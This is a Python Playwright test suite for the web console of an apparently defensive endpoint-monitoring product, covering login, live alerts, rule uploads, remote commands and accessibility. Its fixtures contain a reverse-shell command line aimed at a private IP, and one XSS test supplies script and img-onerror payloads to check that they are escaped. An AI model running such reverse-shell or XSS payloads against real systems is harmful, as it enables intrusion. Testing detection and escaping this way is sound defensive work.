"""The console in a real headless Chromium against a real manager on loopback (TLS on).

The endpoint side is the agent's real link code (``ManagerLink`` with the command executor), so
"run a command" goes all the way through the manager to an agent and back.
"""

from __future__ import annotations

import base64
import datetime
import gzip
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from tests.manager.console.conftest import CHROMIUM

from vigil.agent.commands.executor import CommandExecutor
from vigil.agent.forwarder import Forwarder
from vigil.agent.link.client import EndpointClient, ManagerAddress
from vigil.agent.link.session import LinkIntervals, ManagerLink
from vigil.agent.link.tls import spki_fingerprint
from vigil.agent.spool import Spool
from vigil.manager.testing import GZIP, LiveManager, ndjson

pytest.importorskip("playwright.sync_api")

SHOTS = Path(os.environ.get("VIGIL_SCREENSHOTS", "build/screenshots"))
GUID = "{0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d}"
EVENT_HASH = "c0ffee" * 7
ARTIFACT = b"ELF-core-dump-bytes" * 200

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed")


def _now(offset_s: float = 0) -> str:
    t = datetime.datetime.now(datetime.UTC) + datetime.timedelta(seconds=offset_s)
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f000Z")


def _linux_event(
    seq: int, *, signature: str | None = None, crit: int = 0, when: str | None = None
) -> dict[str, Any]:
    event: dict[str, Any] = {
        "Event": {
            "System": {
                "Channel": "Linux-Sysmon/Operational",
                "Computer": "web-01",
                "EventID": 1,
                "EventRecordID": seq,
                "TimeCreated": {"SystemTime": when or _now()},
            },
            "EventData": {
                "ProcessGuid": "{11111111-2222-4333-8444-555555555555}",
                "ProcessId": str(4000 + seq),
                "Image": "/usr/bin/bash",
                "CommandLine": f"bash -i >& /dev/tcp/10.9.9.9/4444 0>&1 #{seq}",
                "ParentImage": "/usr/sbin/php-fpm8.2",
                "Ancestors": "/usr/lib/systemd/systemd|/usr/sbin/php-fpm8.2",
                "User": "www-data",
            },
        }
    }
    if signature:
        event["Event"]["Detection"] = {
            "Signature": [signature],
            "Criticality": crit,
            "ATTACK": [{"ID": "T1059.004", "Tactic": "execution", "Description": "Unix Shell"}],
            "Actions": ["kill", "memdump"],
        }
    return event


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveManager]:
    with LiveManager(tmp_path_factory.mktemp("console")) as manager:
        yield manager


@pytest.fixture(scope="module")
def agent_link(live: LiveManager, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ManagerLink]:
    der = live.cert.read_bytes()
    import ssl

    address = ManagerAddress(
        url=live.endpoint_url,
        uuid=live.endpoint_uuid,
        key=live.endpoint_key,
        fingerprint=spki_fingerprint(ssl.PEM_cert_to_DER_cert(der.decode())),
    )
    client = EndpointClient(address, hostname="agent-host", timeout=10)  # the name live.agent() pinned
    link = ManagerLink(
        client=client,
        forwarder=Forwarder(Spool(tmp_path_factory.mktemp("spool") / "spool.db"), client),
        executor=CommandExecutor(),
        intervals=LinkIntervals(commands=0.2),
    )
    link.start()
    yield link
    link.stop(drain_deadline=0.5)


@pytest.fixture
def page(browser: Any, live: LiveManager) -> Iterator[Any]:
    context = browser.new_context(
        ignore_https_errors=True, viewport={"width": 1366, "height": 860}, accept_downloads=True
    )
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.errors = errors
    yield page
    context.close()


def _login(page: Any, live: LiveManager) -> None:
    page.goto(f"{live.admin_url}/ui/")
    page.get_by_label("Admin API key").fill(live.admin_key)
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("heading", name="Fleet overview").wait_for()


def _shot(page: Any, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)


def test_login_rejects_a_wrong_key_and_accepts_an_admin_key(page: Any, live: LiveManager) -> None:
    page.goto(f"{live.admin_url}/ui/")
    _shot(page, "01-login")
    page.get_by_label("Admin API key").fill("not-a-key")
    page.get_by_role("button", name="Log in").click()
    page.get_by_text("this key is not an admin API key").wait_for()
    page.get_by_label("Admin API key").fill(live.endpoint_key)
    page.get_by_role("button", name="Log in").click()
    page.get_by_text("this key is not an admin API key").wait_for()  # endpoint keys are not admin keys
    # The two refused logins above are logged by Chromium as failed (401) requests, as they should be.
    assert all("401" in e for e in page.errors), page.errors
    page.errors.clear()
    _login(page, live)
    _shot(page, "02-fleet")
    assert page.errors == []


def test_live_detection_detail_tree_and_related_events(page: Any, live: LiveManager) -> None:
    _login(page, live)
    page.get_by_role("link", name="Alerts").click()
    page.get_by_role("heading", name="Alerts").wait_for()
    page.wait_for_timeout(500)  # the websocket is connected by now
    with live.agent() as agent:
        benign = [_linux_event(i, when=_now(-i)) for i in range(1, 4)]
        alert = _linux_event(99, signature="ReverseShellDevTcp", crit=9)
        assert agent.post("/logs", content=ndjson([*benign, alert]), headers=GZIP).status_code == 200
    row = page.get_by_role("row").filter(has_text="ReverseShellDevTcp")
    row.wait_for(timeout=10_000)
    _shot(page, "03-alerts-live")
    row.get_by_role("link", name="ReverseShellDevTcp").click()
    page.get_by_role("heading", name="Process tree").wait_for()
    tree = page.get_by_label("Process ancestry")
    assert "/usr/sbin/php-fpm8.2" in tree.inner_text()
    assert "/usr/bin/bash" in tree.inner_text()
    assert "T1059.004" in page.inner_text("main")
    page.get_by_role("heading", name="Related events (± 5 minutes)").wait_for()
    page.wait_for_function("document.querySelectorAll('main table tbody tr').length >= 4")
    _shot(page, "04-alert-detail")
    assert page.errors == []


def test_artifact_download_is_byte_identical(page: Any, live: LiveManager, tmp_path: Path) -> None:
    chunk = {
        "filename": "core.gz",
        "guid": GUID,
        "event-hash": EVENT_HASH,
        "content": base64.b64encode(gzip.compress(ARTIFACT)).decode(),
        "chunk": 1,
        "total": 1,
    }
    with live.agent() as agent:
        assert agent.post("/upload/dumps", content=orjson.dumps(chunk)).status_code == 200
    _login(page, live)
    page.goto(f"{live.admin_url}/ui/#/endpoint/{live.endpoint_uuid}")
    link = page.get_by_role("link", name="core.gz")
    link.wait_for()
    with page.expect_download() as info:
        link.click()
    saved = tmp_path / "artifact"
    info.value.save_as(saved)
    assert saved.read_bytes() == ARTIFACT
    _shot(page, "05-endpoint")
    assert page.errors == []


def test_broken_rule_upload_shows_every_error(page: Any, live: LiveManager) -> None:
    _login(page, live)
    page.get_by_role("link", name="Rules").click()
    page.get_by_role("heading", name="Upload rules").wait_for()
    broken = [
        {"Name": "BadRegex", "Meta": {"Schema": "2.0.0"}, "Matches": ["$a: Image ~= '('"], "Condition": "$a"},
        {
            "Name": "BadOperand",
            "Meta": {"Schema": "2.0.0"},
            "Matches": ["$a: Image = 'x'"],
            "Condition": "$b",
        },
    ]
    page.get_by_label("Rule text").fill(orjson.dumps(broken).decode())
    page.get_by_role("button", name="Compile and store").click()
    errors = page.get_by_label("rule errors")
    errors.wait_for()
    text = errors.inner_text()
    assert "BadRegex" in text and "BadOperand" in text
    _shot(page, "06-rules-errors")
    page.get_by_label("Search").fill("Bad")
    assert page.locator("main table tbody tr").count() == 0  # nothing of the refused set was stored


SIGMA_CONSOLE_RULE = """title: Console Sigma Curl Download
id: 0c3a2b1d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/curl'
    condition: selection
level: medium
tags:
    - attack.t1105
"""


def test_sigma_rules_are_listed_uploaded_and_refused_with_every_error(page: Any, live: LiveManager) -> None:
    _login(page, live)
    page.get_by_role("link", name="Rules").click()
    page.get_by_role("heading", name="Sigma rules").wait_for()
    page.get_by_label("Rule text").fill(SIGMA_CONSOLE_RULE)
    page.get_by_role("button", name="Compile and store").click()
    page.get_by_role("status").filter(has_text="1 Sigma rule(s) stored.").wait_for()
    sigma_table = page.get_by_role("table", name="Sigma rules")
    sigma_table.get_by_text("Console Sigma Curl Download").wait_for()
    row = sigma_table.locator("tbody tr").filter(has_text="Console Sigma Curl Download")
    assert "T1105" in row.inner_text() and "process_creation" in row.inner_text()
    broken = SIGMA_CONSOLE_RULE.replace(
        "0c3a2b1d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "0c3a2b1d-5e6f-4a7b-8c9d-0e1f2a3b4c5e"
    )
    broken = broken.replace("Console Sigma Curl Download", "Console Broken").replace("|endswith", "|endswiht")
    cloud = SIGMA_CONSOLE_RULE.replace(
        "0c3a2b1d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "0c3a2b1d-5e6f-4a7b-8c9d-0e1f2a3b4c5f"
    )
    cloud = cloud.replace("Console Sigma Curl Download", "Console Cloud").replace(
        "product: linux\n    category: process_creation", "product: aws\n    service: cloudtrail"
    )
    page.get_by_label("Rule text").fill(broken + "---\n" + cloud)
    page.get_by_role("button", name="Compile and store").click()
    errors = page.get_by_label("rule errors")
    errors.wait_for()
    text = errors.inner_text()
    assert "document 1" in text and "Console Broken" in text and "Unknown modifier 'endswiht'" in text
    assert "document 2" in text and "[logsource]" in text and "Console Cloud" in text
    _shot(page, "06b-sigma-rules-errors")
    with live.admin() as admin:
        assert [r["title"] for r in admin.sigma_rules()] == ["Console Sigma Curl Download"]
    # The browser logs the refused upload's 400; nothing else may go wrong.
    assert [e for e in page.errors if "status of 400" not in e] == []


def test_run_a_command_on_the_endpoint(page: Any, live: LiveManager, agent_link: ManagerLink) -> None:
    _login(page, live)
    page.goto(f"{live.admin_url}/ui/#/endpoint/{live.endpoint_uuid}")
    page.get_by_label("Command").fill("stat /")
    page.get_by_role("button", name="Run", exact=True).click()
    output = page.get_by_label("command output")
    output.wait_for(timeout=20_000)
    assert '"type": "dir"' in output.inner_text()
    stray = page.evaluate(
        "[...document.getElementById('command-output').childNodes].filter((n) => n.nodeType === 3)"
        ".map((n) => n.textContent)"
    )
    assert stray == [], f"stray text next to the command output: {stray}"  # was a bare "null"
    _shot(page, "07-command")
    assert page.errors == []


def test_every_form_control_has_a_label_and_pages_have_headings(page: Any, live: LiveManager) -> None:
    _login(page, live)
    for route in ("#/fleet", "#/alerts", "#/rules", "#/iocs", f"#/endpoint/{live.endpoint_uuid}"):
        page.goto(f"{live.admin_url}/ui/{route}")
        page.locator("#view h1").first.wait_for()
        unlabeled = page.evaluate(
            """() => [...document.querySelectorAll('input, select, textarea')]
                .filter((el) => el.offsetParent !== null)
                .filter((el) => !(el.labels && el.labels.length) && !el.getAttribute('aria-label'))
                .map((el) => el.outerHTML)"""
        )
        assert unlabeled == [], f"{route}: controls without a label: {unlabeled}"
        assert page.locator("#view h1").count() == 1
        time.sleep(0.1)
    assert page.errors == []


def _tab_until(page: Any, predicate: str, limit: int = 60) -> None:
    """Press Tab until ``predicate`` (a JS expression over ``el``, the focused element) is true."""
    for _ in range(limit):
        page.keyboard.press("Tab")
        if page.evaluate(f"(() => {{ const el = document.activeElement; return !!({predicate}); }})()"):
            return
    raise AssertionError(f"{limit} Tab presses never reached an element where {predicate}")


def test_keyboard_only_login_alerts_and_open_an_alert(page: Any, live: LiveManager) -> None:
    with live.agent() as agent:
        alert = _linux_event(7, signature="KeyboardReachableAlert", crit=8)
        assert agent.post("/logs", content=ndjson([alert]), headers=GZIP).status_code == 200
    page.goto(f"{live.admin_url}/ui/")
    page.get_by_label("Admin API key").wait_for()
    _tab_until(page, "el.id === 'login-key'")
    page.keyboard.type(live.admin_key)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Fleet overview").wait_for()
    _tab_until(page, "el.matches('nav a[data-nav=alerts]')")
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none", "the focused link shows no focus ring"
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Alerts").wait_for()
    page.get_by_role("row").filter(has_text="KeyboardReachableAlert").wait_for()
    _tab_until(
        page,
        "el.closest('main table tbody tr') && el.closest('tr').textContent.includes('KeyboardReachableAlert')",
    )
    _shot(page, "08-keyboard-focus")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Process tree").wait_for()
    assert "KeyboardReachableAlert" in page.inner_text("main")
    assert page.errors == []


def test_markup_in_event_data_is_shown_as_text_never_run(page: Any, live: LiveManager) -> None:
    markup = '<img src=x onerror="window.__vigil_pwned=1">'
    event = _linux_event(55, signature="MarkupInEventData", crit=5)
    event["Event"]["EventData"]["CommandLine"] = markup
    event["Event"]["EventData"]["Image"] = "<script>window.__vigil_pwned=2</script>"
    with live.agent() as agent:
        assert agent.post("/logs", content=ndjson([event]), headers=GZIP).status_code == 200
    _login(page, live)
    page.get_by_role("link", name="Alerts").click()
    page.get_by_role("heading", name="Alerts").wait_for()  # not the fleet's row, which names it too
    row = page.get_by_role("row").filter(has_text="MarkupInEventData").filter(has_text="<script>")
    row.wait_for()
    assert "<script>window.__vigil_pwned=2</script>" in row.inner_text()
    row.get_by_role("link", name="MarkupInEventData").click()
    page.get_by_role("heading", name="Process tree").wait_for()
    assert markup in page.get_by_label("Process ancestry").inner_text()
    assert page.locator("main img, main script").count() == 0
    assert page.evaluate("window.__vigil_pwned") is None
    assert page.errors == []  # a blocked inline handler would also show up here as a CSP error


def test_escape_cancels_a_confirmation_even_after_an_earlier_confirm(page: Any, live: LiveManager) -> None:
    """The dialog's returnValue survives a close by Escape: a stale "ok" must not confirm anything."""
    _login(page, live)
    page.get_by_role("link", name="IoCs").click()
    for value in ("first.vigil-test.invalid", "second.vigil-test.invalid"):
        page.get_by_label("Value").fill(value)
        page.get_by_label("Type").select_option("domain")
        page.get_by_role("button", name="Add IoC").click()
        page.get_by_role("cell", name=value, exact=True).wait_for()
    page.get_by_role("button", name="Delete IoC first.vigil-test.invalid").click()
    page.get_by_role("button", name="Confirm").click()
    page.get_by_role("cell", name="first.vigil-test.invalid", exact=True).wait_for(state="detached")
    page.get_by_role("button", name="Delete IoC second.vigil-test.invalid").click()
    page.get_by_role("dialog").wait_for()
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="hidden")
    page.wait_for_timeout(500)
    page.reload()
    page.get_by_role(
        "cell", name="second.vigil-test.invalid", exact=True
    ).wait_for()  # still there: not deleted
    with live.admin() as admin:
        assert "second.vigil-test.invalid" in [i["value"] for i in admin.iocs()]
    assert page.errors == []
